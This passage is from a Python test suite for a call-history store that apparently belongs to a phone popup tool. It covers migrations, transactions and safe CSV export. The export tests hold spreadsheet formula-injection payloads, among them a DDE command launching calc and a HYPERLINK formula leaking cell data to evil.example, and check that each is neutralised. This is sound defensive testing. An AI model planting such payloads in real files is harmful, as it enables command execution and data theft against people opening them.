        conn.execute("ALTER TABLE calls ADD COLUMN note TEXT")
        conn.execute("UPDATE calls SET note = 'migrated'")

    monkeypatch.setattr(store_mod, "MIGRATIONS", (*real, add_note))
    with HistoryStore(path) as s:
        assert s.schema_version == n + 1
        assert s.get("full-1") == full_call()
        assert s._db.execute("SELECT note FROM calls").fetchone()[0] == "migrated"


def test_newer_schema_is_refused_and_left_alone(path):
    with HistoryStore(path) as s:
        s.upsert(make_call(1))
    conn = sqlite3.connect(path)
    conn.execute(f"PRAGMA user_version = {len(store_mod.MIGRATIONS) + 1}")
    conn.close()
    before = path.read_bytes()
    with pytest.raises(HistoryError, match="newer cstapopup"):
        HistoryStore(path)
    assert path.read_bytes() == before
    assert not list(path.parent.glob("*.corrupt-*"))


def test_foreign_sqlite_file_is_refused_and_left_alone(path):
    path.parent.mkdir(parents=True)
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE contacts (name TEXT)")
    conn.commit()
    conn.close()
    with pytest.raises(HistoryError, match="not a cstapopup call history"):
        HistoryStore(path)
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA application_id = 1234")
    conn.execute("DROP TABLE contacts")
    conn.commit()
    conn.close()
    with pytest.raises(HistoryError, match="application id"):
        HistoryStore(path)
    assert not list(path.parent.glob("*.corrupt-*"))


def test_impossible_location_gives_a_clear_error(tmp_path):
    (tmp_path / "a-file").write_text("not a folder")
    with pytest.raises(HistoryError, match="Cannot create the call history"):
        HistoryStore(tmp_path / "a-file" / "sub" / "history.sqlite3")


def test_closed_store_says_so(path):
    s = HistoryStore(path)
    s.close()
    with pytest.raises(HistoryError, match="closed"):
        s.recent()


def test_transaction_groups_and_rolls_back(store):
    with store.transaction():
        store.upsert(make_call(1))
        store.upsert(make_call(2))
    assert store.count() == 2
    with pytest.raises(RuntimeError), store.transaction():
        store.upsert(make_call(3))
        raise RuntimeError("boom")
    assert store.count() == 2
    store.upsert(make_call(4))
    assert store.count() == 3


# --- CSV that a spreadsheet opens safely (issue 13.6) ----------------------------------------------

ATTACKS = {
    "cmd": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "minus": "-1",
    "at": "@SUM(1+1)",
    "plus": "+1+1",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_calls() -> list[Call]:
    """Calls whose names (from a phone book) and numbers (from the PBX) start formulas."""
    calls = [make_call(i, name=text, company=text, number="0891234567", key=f"name-{label}")
             for i, (label, text) in enumerate(ATTACKS.items())]
    numbers = {"int": "+49891234567", "formula": "=1+", "exp": "1E5", "date": "1-2",
               "neg": "(12)", "star": "*31#", "plain": "0891234567"}
    calls += [make_call(20 + i, number=raw, key=f"number-{label}")
              for i, (label, raw) in enumerate(numbers.items())]
    calls.append(make_call(40, number="100", devices=("=1+", "100"), key="devices"))
    return calls


def check_safe(text: str) -> dict[str, dict[str, str]]:
    """Every cell of a CSV export starts with something no spreadsheet runs; the rows by key."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (row[0], cell)
    header = rows[0]
    return {r[0]: dict(zip(header, r)) for r in rows[1:]}


def test_csv_export_neutralises_formulas(store):
    store.upsert_many(hostile_calls())
    buf = io.StringIO()
    assert store.export_csv(buf) == len(hostile_calls())
    rows = check_safe(buf.getvalue())
    for label, text in ATTACKS.items():
        # The text is all there after the apostrophe.
        assert rows[f"name-{label}"]["remote_name"] == "'" + text
        assert rows[f"name-{label}"]["remote_company"] == "'" + text
    number = {k.removeprefix("number-"): r["remote_number"] for k, r in rows.items()
              if k.startswith("number-")}
    # A real number in international form stays readable: the apostrophe, then all of it.
    assert number["int"] == "'+49891234567"
    # What is not plain digits is text, never a formula, a number, a date or an exponent.
    assert number == {"int": "'+49891234567", "formula": "'=1+", "exp": "'1E5",
                      "date": "'1-2", "neg": "'(12)", "star": "'*31#", "plain": "0891234567"}
    assert rows["devices"]["local_devices"] == "'=1+ 100"


def test_csv_of_the_history_command_is_neutralised_too(path, capsys):
    from cstapopup.cli import main

    with HistoryStore(path) as s:
        s.upsert_many(hostile_calls())
    assert main(["history", "--db", str(path), "--format", "csv", "--limit", "0"]) == 0
    rows = check_safe(capsys.readouterr().out)
    assert rows["name-cmd"]["remote_name"] == "'" + ATTACKS["cmd"]
    assert rows["number-formula"]["remote_number"] == "'=1+"
    assert len(rows) == len(hostile_calls())


async def test_a_formula_from_the_pbx_and_the_phone_book_reaches_the_csv_as_text(tmp_path):
    """The whole way: a number the decoder accepts ("=1+") and a phone book name that is a
    formula, through the BER codec, the tracker and the recorder, out as CSV."""
    from cstapopup.calls.recorder import Recorder
    from cstapopup.csta import codec
    from cstapopup.csta.events import ConnectionId, DeliveredEvent, DeviceId

    book = tmp_path / "book.csv"
    book.write_text('Name;Company;Phone;Mobile\n=HYPERLINK("http://evil.example","x");'
                    '@Evil AG;+49 89 1234567;\n', encoding="utf-8")
    rec = Recorder.open(tmp_path / "h.sqlite3", ["100"], phonebook_files=[book])
    try:
        await rec.phonebook.wait_idle(timeout=30)   # it loads in its worker
        for i, caller in enumerate(("=1+", "0891234567")):
            cid = bytes([0, i + 1])
            event = DeliveredEvent(
                cross_ref_id=b"\x00\x01", connection=ConnectionId(cid, DeviceId.of("100")),
                alerting_device=DeviceId.of("100"), calling_device=DeviceId.of(caller),
                called_device=DeviceId.of("100"), cause="new_call",
                local_connection_state="alerting")
            wire = codec.encode_apdu(codec.EventReport(1, event))
            decoded = codec.decode_apdu(wire).event
            assert decoded.calling_device.number == caller     # the decoder takes it
            rec.feed("100", decoded, T0 + timedelta(seconds=i))
        buf = io.StringIO()
        rec.store.export_csv(buf)
    finally:
        rec.close()
    rows = list(check_safe(buf.getvalue()).values())
    by_number = {r["remote_number"]: r for r in rows}
    assert set(by_number) == {"'=1+", "0891234567"}
    named = by_number["0891234567"]
    assert named["remote_name"] == "'" + '=HYPERLINK("http://evil.example","x")'
    assert named["remote_company"] == "'@Evil AG"
